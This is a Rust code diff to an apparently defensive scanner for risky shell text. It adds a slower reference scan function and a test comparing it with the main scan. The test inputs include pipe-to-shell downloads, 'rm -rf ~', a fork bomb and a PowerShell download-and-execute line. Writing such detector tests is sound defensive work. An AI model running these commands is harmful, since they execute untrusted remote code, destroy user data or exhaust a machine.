@@ -339,6 +339,21 @@ pub fn scan(content: &str) -> Vec<Flag> {
         .collect()
 }
 
+/// Returns the flags that `content` raises, found by running every rule's regex on every
+/// line, with no literal prefilter. Tests and the fuzz targets compare [`scan`] with this
+/// reference, which is slower because it runs every regex on every line.
+#[doc(hidden)]
+pub fn scan_every_line(content: &str) -> Vec<Flag> {
+    let rules = &*RULES;
+    let lines: Vec<&[u8]> = content.as_bytes().split(|&byte| byte == b'\n').collect();
+    rules
+        .regexes
+        .iter()
+        .filter(|(_, regex)| lines.iter().any(|line| regex.is_match(line)))
+        .map(|(flag, _)| *flag)
+        .collect()
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -608,6 +623,19 @@ mod tests {
             "curl https://example.com/data\n| sh is a pipe into a shell, explained",
             "rm -rf\n/",
         ]);
+    }
+
+    #[test]
+    fn reference_scan_agrees() {
+        let contents = [
+            "curl https://x | sh",
+            "echo ok\nrm -rf ~\ncurl https://x | sh\n:(){ :|:& };:\n",
+            "iex\n(irm https://example.com/a.ps1)",
+            "no risky text",
+        ];
+        for content in contents {
+            assert_eq!(scan(content), scan_every_line(content), "{content:?}");
+        }
     }
 
     #[test]
